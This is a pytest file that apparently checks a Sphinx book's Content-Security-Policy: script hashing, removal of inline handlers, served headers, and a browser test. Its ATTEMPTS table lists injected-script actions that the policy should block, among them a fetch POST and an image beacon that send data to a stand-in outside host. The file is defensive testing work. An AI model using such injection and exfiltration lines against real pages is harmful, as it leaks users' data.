"""What the pages may do: their policy, the headers beside it, and what each of them refuses."""

from __future__ import annotations

import contextlib
import http.client
import subprocess
import sys
from urllib.parse import urlsplit

import content_policy
import labs
import pytest
import serve
from bs4 import BeautifulSoup
from conftest import ROOT
from sphinx.errors import ExtensionError

HEAD = '<!doctype html><html><head><meta charset="utf-8" /><title>A page</title></head>'
HELLO = "alert('Hello, world.');"
HELLO_HASH = "'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"
"""The example of the standard, https://www.w3.org/TR/CSP3/#external-hash."""


def policy_of(page: str) -> dict[str, list[str]]:
    """The policy that a browser reads in a page."""
    element = BeautifulSoup(page, "html.parser").find("meta", attrs={"http-equiv": True})
    rules = [rule.split() for rule in element["content"].split(";")]
    return {name: values for name, *values in rules}


# Hashes


def test_an_inline_script_is_named_by_its_hash():
    page = f'{HEAD}<script>{HELLO}</script><script src="own.js"></script>'
    assert policy_of(content_policy.with_policy(page))["script-src"] == ["'self'", HELLO_HASH]


def test_ends_of_lines_do_not_change_a_hash():
    """Sphinx writes them as the system has them; browsers read one character everywhere."""
    assert content_policy.hash_of("a;\r\nb;") == content_policy.hash_of("a;\nb;")


@pytest.mark.parametrize("kind", ["application/json", "text/template", "application/ld+json"])
def test_data_needs_no_hash(kind):
    page = f'{HEAD}<script type="{kind}">{{}}</script>'
    assert policy_of(content_policy.with_policy(page))["script-src"] == ["'self'"]


@pytest.mark.parametrize("kind", ["module", "text/javascript"])
def test_every_kind_of_script_has_one(kind):
    page = f'{HEAD}<script type="{kind}">{HELLO}</script>'
    assert HELLO_HASH in policy_of(content_policy.with_policy(page))["script-src"]


def test_a_script_of_several_lines_with_tags_in_it_is_one_script():
    script = "\nif (1 < 2 && 3 > 2)\n  document.title = '<b>&amp;</b>';\n"
    assert content_policy.InlineScripts(f"{HEAD}<script>{script}</script>").scripts == [script]


# The page


def test_the_policy_stands_before_all_that_it_is_for():
    """Browsers look for the character set in the first kilobyte, so that goes first."""
    page = content_policy.with_policy(f"{HEAD}<script>{HELLO}</script>")
    places = [page.index(text) for text in ("charset", "Content-Security-Policy", "<title", HELLO)]
    assert places == sorted(places)


def test_the_themes_buttons_lose_their_handlers():
    buttons = '<button onclick="window.print()"></button><button onclick="toggleFullScreen()">'
    page = content_policy.with_policy(HEAD + buttons)
    assert "onclick" not in page
    script = (ROOT / "book" / "_static" / "buttons.js").read_text("utf-8")
    for button in BeautifulSoup(page, "html.parser").find_all("button"):
        assert f"{button['data-click']}: () =>" in script


def test_another_handler_stops_the_build_and_says_what_to_do():
    with pytest.raises(ExtensionError, match=r'onload="start\(\)".*book/_static'):
        content_policy.with_policy(f'{HEAD}<body onload="start()">')


# The headers


@contextlib.contextmanager
def connection(folder):
    """A connection to a server of `folder`."""
    with (
        serve.served(folder) as address,
        contextlib.closing(http.client.HTTPConnection(urlsplit(address).netloc)) as opened,
    ):
        yield opened


FILES = {
    "page.html": ("text/html", serve.POLICIES[".html"]),
    "worker.mjs": ("text/javascript", serve.POLICIES[".mjs"]),
    "drawing.svg": ("image/svg+xml", None),
}
"""Files, with their types and policies."""


def test_a_file_comes_with_its_type_and_policy(tmp_path):
    for name in FILES:
        (tmp_path / name).touch()
    found = {}
    with connection(tmp_path) as opened:
        for name in FILES:
            opened.request("GET", f"/{name}?v=1")
            answer = opened.getresponse()
            assert answer.read() == b""
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
            policy = answer.headers["Content-Security-Policy"]
            found[name] = (answer.headers.get_content_type(), policy)
    assert found == FILES


def test_the_front_page_is_a_page():
    assert serve.headers("/") == serve.headers("/index.html") != serve.headers("/mark.svg")


def test_the_server_says_where_it_is(tmp_path):
    (tmp_path / "index.html").write_text("A book")
    command = [sys.executable, ROOT / "tools" / "serve.py", tmp_path, "--port", "0"]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as server:
        try:
            address = server.stdout.readline().split()[0]
            assert urlsplit(address).hostname == serve.ADDRESS
            opened = http.client.HTTPConnection(urlsplit(address).netloc)
            opened.request("GET", "/")
            assert opened.getresponse().read() == b"A book"
        finally:
            server.terminate()


# What a browser refuses


ATTEMPTS = {
    "script-src-elem": "document.head.append(Object.assign(document.createElement('script'), "
    "{textContent: 'window.ran = true'}))",
    "script-src-attr": "document.body.setAttribute('onclick', 'window.ran = true')",
    "script-src": "try { new Function('window.ran = true')() } catch {}",
    "connect-src": "fetch('https://elsewhere.invalid/', {method: 'POST', body: 'a picture'})"
    ".catch(() => {})",
    "img-src": "new Image().src = 'https://elsewhere.invalid/?what=was+read'",
    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), "
    "{src: 'https://elsewhere.invalid/'}))",
    "base-uri": "document.head.append(Object.assign(document.createElement('base'), "
    "{href: 'https://elsewhere.invalid/'}))",
}
"""By the rule that it breaks: what a script that got into a page might try."""


def test_a_browser_refuses_what_the_policy_forbids(browser, tmp_path):
    attempts = "\n".join(ATTEMPTS.values())
    watch = "addEventListener('securitypolicyviolation', e => seen.push(e.effectiveDirective));"
    (tmp_path / "attempts.js").write_text(f"window.seen = [];\n{watch}\n{attempts}")
    body = '<body><script src="attempts.js"></script></body></html>'
    (tmp_path / "page.html").write_text(content_policy.with_policy(HEAD + body))
    with serve.served(tmp_path) as address, contextlib.closing(browser.new_context()) as context:
        tab = context.new_page()
        asked: list = []
        tab.on("request", lambda request: asked.append(request))
        tab.goto(f"{address}page.html")
        labs.until(tab, f"seen.length >= {len(ATTEMPTS)}")
        assert set(tab.evaluate("seen")) == set(ATTEMPTS)
        assert tab.evaluate("window.ran") is None
        outside = {request.failure for request in asked if not request.url.startswith(address)}
        assert outside <= {"csp"}, outside  # never sent
